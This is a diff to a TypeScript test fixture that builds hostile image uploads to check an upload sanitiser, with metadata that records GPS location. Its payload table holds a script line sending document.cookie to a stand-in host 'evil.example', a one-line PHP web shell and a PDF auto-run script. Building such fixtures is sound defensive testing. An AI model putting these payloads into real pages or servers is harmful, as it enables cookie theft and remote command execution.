@@ -1,6 +1,9 @@
 import sharp, { type Sharp } from "sharp";
 
-/** One hostile upload; `accepted`: it is a sound photo under its burden and may be kept, made anew. */
+/**
+ * One hostile upload; `accepted`: it is a sound photo under its burden and may be kept, made anew; false: it must be
+ * refused; left out: either.
+ */
 export interface Hostile {
   readonly name: string;
   readonly bytes: Buffer;
@@ -20,7 +23,7 @@ const PAYLOADS: Readonly<Record<string, string>> = {
   js: `/*${CANARY}*/fetch("//evil.example/"+document.cookie)`,
   php: `<?php system($_GET["${CANARY}"]); ?>`,
   pdf: `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${CANARY}"))>>>>endobj`,
-  zip: `PK\u0003\u0004${CANARY}`,
+  zip: `PK\u0003\u0004${CANARY}PK\u0005\u0006`,
   shell: `#!/bin/sh\necho ${CANARY}`,
 };
 const MAGIC: Readonly<Record<string, string>> = {
@@ -62,19 +65,22 @@ function disguised(): Hostile[] {
   );
 }
 
+/** What has no meaning behind a picture, and goes with the metadata. */
+const HARMLESS = ["js", "shell"];
+
 /** A sound picture with something behind it. */
 function burdened(format: string, bytes: Buffer): Hostile[] {
   return Object.entries(PAYLOADS).map(([kind, payload]) => ({
     name: `${format} with ${kind} behind it`,
     bytes: Buffer.concat([bytes, Buffer.from(payload, "latin1")]),
-    accepted: true,
+    accepted: HARMLESS.includes(kind),
   }));
 }
 
 /** A picture that says where and by whom it was taken, in every way the format knows. */
 async function located(format: (typeof FORMATS)[number]): Promise<Hostile[]> {
   const exif = {
-    IFD0: { Make: CANARY, ImageDescription: `<script>${CANARY}</script>` },
+    IFD0: { Make: CANARY, ImageDescription: CANARY },
     IFD3: { GPSLatitudeRef: "N", GPSLatitude: PLACE.lat, GPSLongitudeRef: "E", GPSLongitude: PLACE.lng },
   };
   const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>39,54.99N ${CANARY}</exif:GPSLatitude></x:xmpmeta>`;
